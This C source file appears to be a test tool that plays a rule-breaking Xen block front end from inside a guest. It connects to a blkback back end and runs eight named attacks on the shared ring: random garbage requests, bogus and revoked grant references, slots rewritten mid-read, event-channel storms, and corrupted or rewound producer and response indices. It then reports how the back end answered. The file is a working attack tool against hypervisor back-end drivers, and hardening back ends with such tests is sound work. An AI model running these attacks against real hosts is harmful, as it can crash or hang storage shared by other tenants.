/*
 * A front end that breaks the rules: `hostile DEVID ATTACK [SECONDS]`, in a guest without blkfront.
 *
 * It connects to the back end of device/vbd/DEVID as blkfront does (xenbus.h, blkif.h, ring.h), then
 * attacks, tells in one line what was answered and the back end's state, and closes, so that the next
 * can connect. Layouts: gntalloc.h, evtchn.h and xs_wire.h of Linux and Xen.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096
#define SLOTS 32
#define SLOT_BYTES 112
#define DATA_PAGES 11
#define CONNECT_SECONDS 60

enum { XS_READ = 2, XS_WRITE = 11, XS_ERROR = 16 };
enum { INITIALISING = 1, INIT_WAIT, INITIALISED, CONNECTED, CLOSING, CLOSED };
enum { OP_READ = 0, OP_WRITE = 1, OP_FLUSH = 3, OP_DISCARD = 5, OP_INDIRECT = 6 };

struct xs_header { uint32_t type, req_id, tx_id, len; };
struct gref_alloc { uint16_t domid, flags; uint32_t count; uint64_t index; uint32_t gref; };
struct gref_free { uint64_t index; uint32_t count; };
#define GNTALLOC_ALLOC 0x184705
#define GNTALLOC_FREE 0x104706
#define EVTCHN_BIND_UNBOUND 0x44502
#define EVTCHN_NOTIFY 0x44504

struct segment { uint32_t gref; uint8_t first, last; uint16_t pad; };
struct request {
  uint8_t operation, segments;
  uint16_t handle;
  uint32_t pad;
  uint64_t id, sector;
  struct segment segment[11];
};
struct ring {
  volatile uint32_t req_prod, req_event, rsp_prod, rsp_event;
  uint8_t pad[48];
  volatile uint8_t slot[SLOTS][SLOT_BYTES];
};
struct response { uint64_t id; uint8_t operation, pad; int16_t status; };
struct page { void *bytes; uint64_t index; uint32_t gref; };

static int xenbus, gntalloc, evtchn;
static uint32_t port, produced, consumed;
static unsigned long okay, refused;
static struct ring *ring;
static struct page data[DATA_PAGES];

static void fail(const char *what) {
  printf("hostile: %s: %s\n", what, strerror(errno));
  exit(1);
}

static uint64_t chance(void) {
  static uint64_t state = 0x9e3779b97f4a7c15;
  state ^= state << 13;
  state ^= state >> 7;
  return state ^= state << 17;
}

static double seconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec + now.tv_nsec / 1e9;
}

static void fully(ssize_t (*move)(int, void *, size_t), void *bytes, size_t length) {
  for (size_t done = 0; done < length;) {
    ssize_t moved = move(xenbus, (char *)bytes + done, length - done);
    if (moved <= 0) fail("xenbus");
    done += moved;
  }
}

static ssize_t put(int fd, void *bytes, size_t length) { return write(fd, bytes, length); }

/* One request to xenstored; the answer's length, or -1 for an error. */
static int xenstore(uint32_t type, const char *path, const char *value, char *answer) {
  char payload[PAGE];
  size_t length = strlen(path) + 1;
  memcpy(payload, path, length);
  if (value != NULL) {
    memcpy(payload + length, value, strlen(value));
    length += strlen(value);
  }
  struct xs_header header = { type, 1, 0, length };
  fully(put, &header, sizeof header);
  fully(put, payload, length);
  fully(read, &header, sizeof header);
  if (header.len >= PAGE) fail("a long answer");
  fully(read, answer, header.len);
  answer[header.len] = 0;
  return header.type == XS_ERROR ? -1 : (int)header.len;
}

static int number_at(const char *path) {
  char text[PAGE];
  return xenstore(XS_READ, path, NULL, text) < 0 ? -1 : atoi(text);
}

static void set(const char *directory, const char *name, unsigned long value) {
  char path[512], text[32], answer[PAGE];
  snprintf(path, sizeof path, "%s/%s", directory, name);
  snprintf(text, sizeof text, "%lu", value);
  if (xenstore(XS_WRITE, path, text, answer) < 0) fail(path);
}

static struct page share(void) {
  struct gref_alloc grant = { 0, 1, 1, 0, 0 };
  if (ioctl(gntalloc, GNTALLOC_ALLOC, &grant) < 0) fail("gntalloc");
  void *bytes = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, gntalloc, grant.index);
  if (bytes == MAP_FAILED) fail("mmap of a granted page");
  memset(bytes, 0, PAGE);
  return (struct page){ bytes, grant.index, grant.gref };
}

static void unshare(struct page *page) {
  struct gref_free grant = { page->index, 1 };
  munmap(page->bytes, PAGE);
  ioctl(gntalloc, GNTALLOC_FREE, &grant);
}

static void await_state(const char *back, int wanted) {
  char path[512];
  snprintf(path, sizeof path, "%s/state", back);
  for (double end = seconds() + CONNECT_SECONDS; seconds() < end; usleep(50000))
    if (number_at(path) == wanted) return;
  printf("hostile: the back end %s did not reach state %d\n", back, wanted);
  exit(1);
}

static void connect_ring(const char *front, char *back) {
  char path[512];
  snprintf(path, sizeof path, "%s/backend", front);
  if (xenstore(XS_READ, path, NULL, back) < 0) fail(path);
  await_state(back, INIT_WAIT);
  struct page page = share();
  ring = page.bytes;
  ring->req_event = ring->rsp_event = 1;
  for (int i = 0; i < DATA_PAGES; i++) data[i] = share();
  uint32_t remote = 0;
  int bound = ioctl(evtchn, EVTCHN_BIND_UNBOUND, &remote);
  if (bound < 0) fail("evtchn");
  port = bound;
  set(front, "ring-ref", page.gref);
  set(front, "event-channel", port);
  set(front, "state", INITIALISED);
  await_state(back, CONNECTED);
  set(front, "state", CONNECTED);
}

/* As a driver that is unloaded, and loaded again. */
static void disconnect(const char *front, const char *back) {
  set(front, "state", CLOSING);
  set(front, "state", CLOSED);
  await_state(back, CLOSED);
  set(front, "state", INITIALISING);
  await_state(back, INIT_WAIT);
}

static void kick(void) {
  uint32_t own = port;
  ioctl(evtchn, EVTCHN_NOTIFY, &own);
}

static void collect(void) {
  while (consumed != ring->rsp_prod && ring->rsp_prod - consumed <= SLOTS) {
    struct response response;
    memcpy(&response, (void *)ring->slot[consumed++ % SLOTS], sizeof response);
    if (response.status == 0) okay++;
    else refused++;
  }
}

/* Waits for answers to all that was produced; how many are missing. */
static uint32_t settle(double limit) {
  for (double end = seconds() + limit; seconds() < end && consumed != produced; usleep(1000)) collect();
  return produced - consumed;
}

static void produce(const struct request *request) {
  while (produced - consumed >= SLOTS) {
    collect();
    if (ring->rsp_prod - consumed > SLOTS) return;
    usleep(100);
  }
  memcpy((void *)ring->slot[produced % SLOTS], request, SLOT_BYTES);
  __sync_synchronize();
  ring->req_prod = ++produced;
}

static struct request transfer(uint8_t operation, int segments) {
  struct request request = { .operation = operation, .segments = segments };
  request.id = chance();
  request.sector = chance() % 1000;
  for (int i = 0; i < segments && i < 11; i++)
    request.segment[i] = (struct segment){ data[i % DATA_PAGES].gref, 0, 7, 0 };
  return request;
}

static void garbage(double end) {
  while (seconds() < end) {
    for (int i = 0; i < SLOTS; i++) {
      struct request request;
      for (size_t at = 0; at < sizeof request; at += 8) *(uint64_t *)((char *)&request + at) = chance();
      if (i % 2) request.operation %= 7;
      if (i % 4 == 3) request.segments %= 16;
      produce(&request);
    }
    kick();
    if (settle(5) > 0) return;
  }
}

static void bad_grants(double end) {
  while (seconds() < end) {
    for (int i = 0; i < SLOTS; i++) {
      struct request request = transfer(i % 2 ? OP_WRITE : OP_READ, 1 + i % 11);
      request.segment[i % request.segments].gref = i % 3 ? chance() : 0x7fffffff;
      if (i % 8 == 7) request.operation = OP_INDIRECT;
      produce(&request);
    }
    kick();
    if (settle(5) > 0) return;
  }
}

/* Takes the pages away while they are read from and written to. */
static void revoke_grants(double end) {
  while (seconds() < end) {
    for (int i = 0; i < SLOTS; i++) {
      struct request request = transfer(i % 2 ? OP_WRITE : OP_READ, DATA_PAGES);
      produce(&request);
    }
    kick();
    for (int i = 0; i < DATA_PAGES; i++) {
      unshare(&data[i]);
      data[i] = share();
    }
    if (settle(5) > 0) return;
  }
}

/* Scribbles over all slots, all the time, while requests are taken from them. */
static void rewrite(double end) {
  while (seconds() < end) {
    ring->req_prod = produced = consumed + SLOTS;
    kick();
    for (int i = 0; i < 2000; i++) {
      *(volatile uint64_t *)&ring->slot[chance() % SLOTS][8 * (chance() % 14)] = chance();
      collect();
    }
    settle(1);
  }
}

static void storm(double end) {
  while (seconds() < end) kick();
}

static void overflow(double end) {
  while (seconds() < end) {
    ring->req_prod = ring->rsp_prod + 1000;
    kick();
    usleep(10000);
  }
}

static void rewind_producer(double end) {
  struct request request = transfer(OP_READ, 1);
  for (int i = 0; i < 8; i++) produce(&request);
  kick();
  settle(5);
  while (seconds() < end) {
    ring->req_prod = produced - 5;
    kick();
    usleep(10000);
  }
}

/* Writes the back end's own index. */
static void scribble(double end) {
  struct request request = transfer(OP_READ, 1);
  while (seconds() < end) {
    ring->rsp_prod = chance();
    memcpy((void *)ring->slot[produced % SLOTS], &request, SLOT_BYTES);
    ring->req_prod = ++produced;
    kick();
    usleep(1000);
  }
}

static const struct { const char *name; void (*run)(double); } attacks[] = {
  { "garbage", garbage }, { "bad-grants", bad_grants }, { "revoke", revoke_grants },
  { "rewrite", rewrite }, { "storm", storm }, { "overflow", overflow },
  { "rewind", rewind_producer }, { "scribble", scribble },
};

int main(int count, char **words) {
  char front[64], back[PAGE], state[PAGE + 16];
  if (count < 3) return printf("hostile DEVID ATTACK [SECONDS]\n"), 2;
  xenbus = open("/dev/xen/xenbus", O_RDWR);
  gntalloc = open("/dev/xen/gntalloc", O_RDWR);
  evtchn = open("/dev/xen/evtchn", O_RDWR);
  if (xenbus < 0 || gntalloc < 0 || evtchn < 0) fail("/dev/xen");
  snprintf(front, sizeof front, "device/vbd/%s", words[1]);
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
    if (strcmp(attacks[i].name, words[2]) != 0) continue;
    connect_ring(front, back);
    printf("hostile: %s connected\n", words[2]);
    fflush(stdout);
    attacks[i].run(seconds() + (count > 3 ? atof(words[3]) : 5));
    snprintf(state, sizeof state, "%s/state", back);
    printf("hostile: %s over: %lu okay, %lu refused, %u unanswered, back end in state %d\n",
           words[2], okay, refused, settle(2), number_at(state));
    fflush(stdout);
    disconnect(front, back);
    return 0;
  }
  return printf("hostile: no attack %s\n", words[2]), 2;
}
